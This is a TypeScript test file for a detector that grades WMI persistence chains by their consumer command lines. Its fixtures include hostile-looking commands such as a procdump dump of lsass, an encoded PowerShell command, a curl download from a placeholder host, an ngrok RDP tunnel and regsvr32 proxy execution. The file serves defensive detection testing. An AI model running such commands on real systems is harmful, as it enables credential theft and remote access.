import type { Level } from '../../../lib/triage';
import { LEVELS, levelRules, triage } from '../../../lib/triage';
import { binding, consumer, filter, recorded } from '../join/recordings';

const TODAY = '2026-01-15';

interface Made {
  readonly destination?: string;
  readonly type?: string;
  readonly wmiClass?: string;
}

function chain({ destination = 'C:\\Program Files\\Agent\\agent.exe', type, wmiClass }: Made): readonly object[] {
  return [
    filter('F', { query: "select * from Win32_ProcessStartTrace where ProcessName = 'a.exe'" }),
    consumer('C', { destination, ...(type === undefined ? {} : { type }) }),
    binding('F', 'C', wmiClass === undefined ? {} : { wmiClass }),
  ];
}

function levelsOf(events: readonly object[]): readonly (readonly [Level, ...string[]])[] {
  return triage([recorded(events)], { today: TODAY }).chains.map(({ level, because }) => [
    level,
    ...because.map(({ rule }) => rule),
  ]);
}

it.each<readonly [string, Made, Level, string]>([
  ['a plain program', {}, 'notable', 'not-known'],
  ['credentials', { destination: 'procdump -ma lsass.exe' }, 'malicious', 'hostile-code'],
  ['an encoded command', { destination: 'powershell -enc YwBhAGwAYwAuAGUAeABlAA==' }, 'malicious', 'hostile-code'],
  ['a download alone', { destination: 'curl.exe -o C:\\x http://a.example/x' }, 'suspicious', 'downloads'],
  [
    'a program that controls the host',
    { destination: 'C:\\Tools\\AnyDesk.exe --silent' },
    'suspicious',
    'remote-access',
  ],
  ['a tunnel', { destination: 'C:\\Tools\\ngrok.exe tcp 3389' }, 'suspicious', 'remote-access'],
  ['a name that imitates', { destination: 'C:\\Windows\\svch0st.exe' }, 'malicious', 'hostile-code'],
  ['a signed proxy', { destination: 'regsvr32 /s a.dll' }, 'malicious', 'hostile-code'],
  ['a signed proxy of a local file', { destination: 'msiexec /i C:\\Install\\a.msi' }, 'suspicious', 'signed-proxy'],
  ['two medium signs', { destination: 'powershell -w hidden -File C:\\Windows\\a.ps1' }, 'suspicious', 'several-signs'],
  ['one medium sign', { destination: 'cscript C:\\Windows\\a.vbs' }, 'notable', 'not-known'],
  [
    'a log file that is a script',
    { destination: 'C:\\ProgramData\\a.bat', type: 'Log File', wmiClass: 'LogFileEventConsumer' },
    'suspicious',
    'writes-code',
  ],
  [
    'a log file',
    { destination: 'C:\\Logs\\a.log', type: 'Log File', wmiClass: 'LogFileEventConsumer' },
    'notable',
    'not-known',
  ],
])('%s', (_, made, level, rule) => {
  const [given] = levelsOf(chain(made));
  expect(given?.[0]).toBe(level);
  expect(given?.slice(1)).toContain(rule);
});

it('nothing is lowered because a part is missing', () => {
  const hostile = chain({ destination: 'procdump -ma lsass.exe' });
  const levels = [[1], [0, 1], [1, 2], [0, 1, 2]].map((kept) => levelsOf(kept.map((index) => hostile[index] ?? {})));
  expect(levels.map(([given]) => given?.[0])).toEqual(['malicious', 'malicious', 'malicious', 'malicious']);
});

it('a binding to a class that runs code, of which nothing shows the code, is suspicious', () => {
  expect(levelsOf([binding('F', 'C')])).toEqual([['suspicious', 'code-not-recorded']]);
  expect(levelsOf([binding('F', 'C', { wmiClass: 'NTEventLogEventConsumer' })])).toEqual([['notable', 'not-known']]);
});

it('each rule has an id of its own and the last one applies always', () => {
  const rules = levelRules();
  expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length);
  expect(rules.at(-1)).toMatchObject({ id: 'not-known', level: 'notable' });
  expect(new Set(rules.map(({ level }) => level))).toEqual(new Set(LEVELS));
});
